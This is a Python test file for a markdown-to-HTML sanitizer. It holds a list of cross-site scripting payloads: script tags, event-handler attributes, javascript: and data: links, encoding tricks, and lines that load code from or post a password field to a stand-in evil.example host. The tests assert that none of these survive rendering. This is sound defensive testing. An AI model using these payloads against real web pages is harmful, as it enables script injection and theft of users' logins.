"""Markdown becomes HTML that can do no harm."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.text.markdown import TAGS, to_html, to_plain

HARMLESS_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
SCHEMES = ("http:", "https:", "mailto:")


class Elements(HTMLParser):
    """Collects what a browser would find: (tag, attributes)."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.words: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words.append(data)


def harm_in(html: str) -> list:
    """Elements, attributes and link schemes that a note must not bring into a page."""
    found = Elements(html).found
    tags = [tag for tag, _ in found if tag not in TAGS]
    attributes = [(tag, name) for tag, attrs in found for name in attrs if name not in HARMLESS_ATTRIBUTES.get(tag, ())]
    links = [attrs["href"] for _, attrs in found if "href" in attrs and not _is_harmless(attrs["href"])]
    return tags + attributes + links


def _is_harmless(href: str) -> bool:
    return href.lower().startswith(SCHEMES) or ":" not in href.split("/")[0]


HOSTILE = [
    "<script>alert(1)</script>",
    "</p><script src=//evil.example></script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://tracker.example/pixel.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    "<style>*{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "<p id=note-composer class=modal style=position:fixed>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>]]>",
    "\u202e<script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_harmful_comes_out(body):
    assert harm_in(to_html(body)) == []


@given(st.lists(st.sampled_from([*HOSTILE, "*", "_", "`", ">", "[", "](", ")", "\n", "<", "&", "word"]), max_size=12))
def test_nothing_harmful_comes_out_of_any_mixture(pieces):
    assert harm_in(to_html("".join(pieces))) == []


@given(st.text(max_size=200))
def test_any_text_becomes_html(body):
    assert harm_in(to_html(body)) == []


@pytest.mark.parametrize(
    "body, html",
    [
        ("*one* **two** ~~three~~", "<p><em>one</em> <strong>two</strong> <s>three</s></p>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        ("`x < y`", "<p><code>x &lt; y</code></p>"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>"),
        (
            "[words](https://a.example/?b=1&c=2)",
            '<p><a href="https://a.example/?b=1&amp;c=2" rel="nofollow ugc noopener">words</a></p>',
        ),
    ],
)
def test_what_people_write_is_kept(body, html):
    assert to_html(body).strip() == html


@pytest.mark.parametrize("level, tag", [(1, "h3"), (2, "h3"), (3, "h3"), (4, "h4"), (5, "h4"), (6, "h4")])
def test_headings_stay_below_those_of_the_page(level, tag):
    assert to_html("#" * level + " Title").strip() == f"<{tag}>Title</{tag}>"


def test_html_in_a_note_is_shown_as_typed():
    assert Elements(to_html("<b>bold?</b>")).words[0] == "<b>bold?</b>"


@pytest.mark.parametrize("body", ["> " * 4000 + "deep", "- " * 4000 + "deep", "[" * 5000, "*" * 9000, "`" * 9001])
def test_huge_nesting_is_answered_in_bounded_size(body):
    html = to_html(body)
    assert harm_in(html) == []
    assert len(html) < 40 * len(body)


@pytest.mark.parametrize(
    "body, words",
    [
        ("*one* [two](https://a.example)", "one two"),
        ("first\n\nsecond", "first second"),
        ("a & b < c > d \"e\" 'f'", "a & b < c > d \"e\" 'f'"),
        ("<b>typed</b>", "<b>typed</b>"),
    ],
)
def test_plain_words_are_the_note_without_its_markup(body, words):
    assert to_plain(body) == words


def test_plain_words_are_shortened_with_an_ellipsis():
    assert to_plain("word " * 100, most=12) == "word word…"
    assert len(to_plain("x" * 500)) == 160
    assert to_plain("short", most=5) == "short"
